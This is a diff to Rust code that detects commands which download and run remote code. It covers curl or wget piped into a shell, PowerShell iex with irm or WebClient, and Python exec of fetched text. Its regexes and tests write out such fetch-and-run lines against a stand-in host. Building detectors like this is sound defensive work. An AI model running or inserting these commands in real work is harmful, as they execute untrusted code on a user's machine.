@@ -8,7 +8,7 @@ use crate::text::Span;
 
 use super::hosts::Address;
 use super::surroundings as around;
-use super::{Text, trimmed};
+use super::{Text, pattern, trimmed};
 
 /// A command that runs what it fetches.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -18,40 +18,44 @@ pub struct Fetched<'a> {
     pub address: Option<Address<'a>>,
     /// Whether certificates are not checked.
     pub is_unverified: bool,
-}
-
-fn regex(source: &str) -> Regex {
-    Regex::new(source).expect("a pattern of this file, which the tests compile")
+    /// Whether the command is put together from variables.
+    pub is_variable: bool,
 }
 
 /// A pipe into something that runs what it reads. What follows the name is judged by the caller.
 static PIPED: LazyLock<Regex> = LazyLock::new(|| {
-    regex(
+    pattern(
         r"(?i)\\?\|\s*(?:sudo\s+(?:-[a-z]+\s+)*|env\s+(?:[a-z_]+=\S+\s+)*|nohup\s+|exec\s+|command\s+|[a-z_]+=\S+\s+)*(?:/(?:usr/)?(?:local/)?bin/(?:env\s+)?)?(?P<program>(?:ba|z|da|k|a|fi)?sh|python[0-9.]*|node|perl|ruby|php|osascript|iex|invoke-expression|cmd)(?P<next>[^a-z0-9_./:=@-]|$)",
     )
 });
 
 /// What stands right before a fetch whose output is run: `sh -c "$(`, `bash <(`, `eval "$(`, `iex (`.
 static RUNS_BEFORE: LazyLock<Regex> = LazyLock::new(|| {
-    regex(
+    pattern(
         r#"(?i)(?:(?:^|[\s;&|"'`(])(?:(?:(?:ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby)(?:\s+-[a-z]+)*|eval|source|\.|exec)\s+["']?(?:\$\(|<\(|`)\s*(?:sudo\s+)?|(?:iex|invoke-expression)[\s({&"']*(?:\(?new-object\s+(?:system\.)?net\.webclient\)?\.)?)$"#,
     )
 });
 
 /// A call that runs what a library fetches.
 static RUNS_LIBRARY: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r"(?i)(?:^|[^a-z0-9_.])(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:urllib\.request\.|urllib2\.|request\.)?$")
+    pattern(
+        r"(?i)(?:^|[^a-z0-9_.])(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:urllib\.request\.|urllib2\.|request\.)?$",
+    )
 });
 
-static URL: LazyLock<Regex> = LazyLock::new(|| regex(r#"(?i)https?://[^\s"'`<>|;)\\\]},]+"#));
+static URL: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)https?://[^\s"'`<>|;)\\\]},]+"#));
 
 /// A host without a scheme, as `curl` takes it.
-static BARE: LazyLock<Regex> =
-    LazyLock::new(|| regex(r#"(?i)\s["']?(?P<host>[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)*\.[a-z]{2,10}(?:/[^\s"'`|;)]*)?)"#));
+static BARE: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(r#"(?i)\s["']?(?P<host>[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)*\.[a-z]{2,10}(?:/[^\s"'`|;)]*)?)"#)
+});
 
 /// A file that is fetched and then run on the same line.
-static SAVED: LazyLock<Regex> =
-    LazyLock::new(|| regex(r#"(?i)(?:\s(?:-o|--output|-O|--output-document|-OutFile)[\s=]*|>\s*)["']?(?P<file>[~$\w./{}-]+)"#));
+static SAVED: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)(?:\s(?:-o|--output|-O|--output-document|-OutFile)[\s=]*|>\s*)["']?(?P<file>[~$\w./{}-]+)"#,
+    )
+});
 
 /// The command that fetches at `at`, if what it fetches is run.
 pub fn fetched_at(text: &Text, at: usize) -> Option<Fetched<'_>> {
@@ -63,7 +67,7 @@ pub fn fetched_at(text: &Text, at: usize) -> Option<Fetched<'_>> {
     let ran_before = RUNS_BEFORE.find(before);
     let end = if ran_before.is_some() || RUNS_LIBRARY.is_match(before) {
         pipeline.len()
-    } else if let Some(end) = piped(pipeline) {
+    } else if let Some(end) = piped(&without_quoted(pipeline)) {
         end
     } else {
         pipeline.len() + saved_and_run(pipeline, rest)?
@@ -73,7 +77,10 @@ pub fn fetched_at(text: &Text, at: usize) -> Option<Fetched<'_>> {
     Some(Fetched {
         span: trimmed(whole, Span::new(start, at + end)),
         address: address(pipeline),
-        is_unverified: lower.contains(" --insecure") || lower.contains("--no-check-certificate") || holds_flag(pipeline, 'k'),
+        is_variable: pipeline.contains(['$', '{', '%']) || RUNS_LIBRARY.is_match(before),
+        is_unverified: lower.contains(" --insecure")
+            || lower.contains("--no-check-certificate")
+            || holds_flag(pipeline, 'k'),
     })
 }
 
@@ -81,8 +88,12 @@ pub fn fetched_at(text: &Text, at: usize) -> Option<Fetched<'_>> {
 fn holds_flag(command: &str, flag: char) -> bool {
     command.starts_with("curl")
         && command.split_whitespace().any(|word| {
-            word.strip_prefix('-')
-                .is_some_and(|flags| !flags.starts_with('-') && flags.len() < 8 && flags.contains(flag) && flags.chars().all(char::is_alphabetic))
+            word.strip_prefix('-').is_some_and(|flags| {
+                !flags.starts_with('-')
+                    && flags.len() < 8
+                    && flags.contains(flag)
+                    && flags.chars().all(char::is_alphabetic)
+            })
         })
 }
 
@@ -127,6 +138,24 @@ fn pipeline(command: &str) -> &str {
     command
 }
 
+/// The same command line with blanks for what stands in quotes that are closed again.
+fn without_quoted(pipeline: &str) -> String {
+    let mut plain = String::with_capacity(pipeline.len());
+    let mut rest = pipeline;
+    while let Some(open) = rest.find(['"', '\'']) {
+        let mark = &rest[open..=open];
+        let inside = &rest[open + 1..];
+        let Some(close) = inside.find(mark) else {
+            break;
+        };
+        plain.push_str(&rest[..=open]);
+        plain.extend(inside[..close].bytes().map(|_| '_'));
+        plain.push_str(mark);
+        rest = &inside[close + 1..];
+    }
+    plain + rest
+}
+
 /// Where a pipe into an interpreter ends that runs what it reads.
 fn piped(pipeline: &str) -> Option<usize> {
     PIPED.captures_iter(pipeline).find_map(|found| {
@@ -135,7 +164,10 @@ fn piped(pipeline: &str) -> Option<usize> {
         let name = program.as_str().to_ascii_lowercase();
         let is_shell = name.ends_with("sh") || name == "iex" || name == "invoke-expression" || name == "cmd";
         // `python3 -c …`, `node -e …`, `perl -ne …` read data; `python3 -` and `python3` read a program.
-        let reads_program = rest.is_empty() || rest.starts_with(['"', '\'', '`', ')', '|', '<', '>', '\n', '#']) || rest.starts_with("- ") || rest == "-";
+        let reads_program = rest.is_empty()
+            || rest.starts_with(['"', '\'', '`', ')', '|', '<', '>', '\n', '#'])
+            || rest.starts_with("- ")
+            || rest == "-";
         let is_command = is_shell && !rest.starts_with("-c ");
         (is_command || reads_program).then_some(program.end())
     })
@@ -143,28 +175,45 @@ fn piped(pipeline: &str) -> Option<usize> {
 
 /// How far behind the pipeline the command reaches that runs the file it saved.
 fn saved_and_run(pipeline: &str, rest: &str) -> Option<usize> {
-    let file = SAVED.captures_iter(pipeline).last().and_then(|found| found.name("file"));
+    let file = SAVED
+        .captures_iter(pipeline)
+        .last()
+        .and_then(|found| found.name("file"));
     let name = match file {
         Some(file) => file.as_str(),
         // `wget URL` and `curl -O URL` keep the last part of the path.
-        None if pipeline.starts_with("wget") || pipeline.contains(" -O") => address(pipeline)?.path.rsplit('/').next()?,
+        None if pipeline.starts_with("wget") || pipeline.contains(" -O") => {
+            address(pipeline)?.path.rsplit('/').next()?
+        }
         None => return None,
     };
     let name = name.rsplit('/').next().filter(|name| name.len() > 2)?;
     if matches!(name, "null" | "stdout" | "stderr") {
         return None;
     }
-    let mut from = 0;
-    while let Some(found) = rest.get(from..)?.find(name) {
-        let at = from + found;
-        let before = rest[..at].trim_end_matches(['.', '/', '"', '\'', '~', '$']).trim_end();
-        let word = before.rsplit(|mark: char| mark.is_whitespace() || matches!(mark, ';' | '&' | '|')).next().unwrap_or_default();
-        let is_run = matches!(word, "sh" | "bash" | "zsh" | "python" | "python3" | "node" | "source" | "perl" | "ruby")
-            || (rest[..at].ends_with("./") && (before.is_empty() || before.ends_with(['&', ';', '|']) || word == "sudo"));
-        if is_run {
-            return Some(at + name.len());
+    let is_break = |mark: char| mark.is_whitespace() || matches!(mark, ';' | '&' | '|');
+    // What stands before a word: the word before it, or nothing where a command begins.
+    let mut before = "";
+    let mut at = 0;
+    for part in rest.split_inclusive(is_break) {
+        let word = part.trim_end_matches(is_break);
+        let path = word.trim_matches(['"', '\'']);
+        if path.rsplit('/').next() == Some(name) {
+            let interpreters = [
+                "sh", "bash", "zsh", "python", "python3", "node", "source", ".", "perl", "ruby",
+            ];
+            let is_program = path.contains('/') && matches!(before, "" | "sudo");
+            if interpreters.contains(&before) || is_program {
+                return Some(at + word.len());
+            }
         }
-        from = at + name.len();
+        at += part.len();
+        if !word.is_empty() {
+            before = path;
+        }
+        if part.ends_with([';', '&', '|']) {
+            before = "";
+        }
     }
     None
 }
@@ -177,7 +226,10 @@ fn address(command: &str) -> Option<Address<'_>> {
     if !command.starts_with("curl") && !command.starts_with("wget") {
         return None;
     }
-    let files = [".sh", ".py", ".js", ".json", ".txt", ".md", ".yaml", ".yml", ".gz", ".zip", ".html", ".log", ".exe", ".bin", ".ps1"];
+    let files = [
+        ".sh", ".py", ".js", ".json", ".txt", ".md", ".yaml", ".yml", ".gz", ".zip", ".html", ".log", ".exe",
+        ".bin", ".ps1",
+    ];
     let hosts = BARE.captures_iter(command).filter_map(|found| found.name("host"));
     hosts
         .map(|host| host.as_str())
@@ -194,7 +246,9 @@ pub fn addresses(text: &str) -> impl Iterator<Item = (usize, Address<'_>)> {
 /// The address that begins at `at`.
 pub fn address_at(text: &str, at: usize) -> Option<Address<'_>> {
     let rest = text.get(at..)?;
-    let end = rest.find(|mark: char| mark.is_whitespace() || "\"'`<>|;)\\]}".contains(mark)).unwrap_or(rest.len());
+    let end = rest
+        .find(|mark: char| mark.is_whitespace() || "\"'`<>|;)\\]}".contains(mark))
+        .unwrap_or(rest.len());
     Address::of(&rest[..end])
 }
 
@@ -235,14 +289,21 @@ mod tests {
             ("irm https://a.xyz/i.ps1 | iex", "a.xyz"),
             ("powershell -c \"irm https://a.xyz/i.ps1 | iex\"", "a.xyz"),
             ("iex (iwr https://a.xyz/i.ps1)", "a.xyz"),
-            ("iex ((New-Object System.Net.WebClient).DownloadString('https://a.xyz/i.ps1'))", "a.xyz"),
+            (
+                "iex ((New-Object System.Net.WebClient).DownloadString('https://a.xyz/i.ps1'))",
+                "a.xyz",
+            ),
             ("curl -o /tmp/i.sh https://a.xyz/i.sh && bash /tmp/i.sh", "a.xyz"),
             ("wget https://a.xyz/i.sh; chmod +x i.sh; ./i.sh", "a.xyz"),
             ("exec(requests.get(\"https://a.xyz/i.py\").text)", "a.xyz"),
             ("curl -fsSL \\\n  https://a.xyz/i.sh \\\n  | sh", "a.xyz"),
         ] {
             let found = fetched(command);
-            assert_eq!(found.and_then(|(_, host)| host).as_deref(), Some(host), "{command}");
+            assert_eq!(
+                found.and_then(|(_, host)| host).as_deref(),
+                Some(host),
+                "{command}"
+            );
         }
     }
 
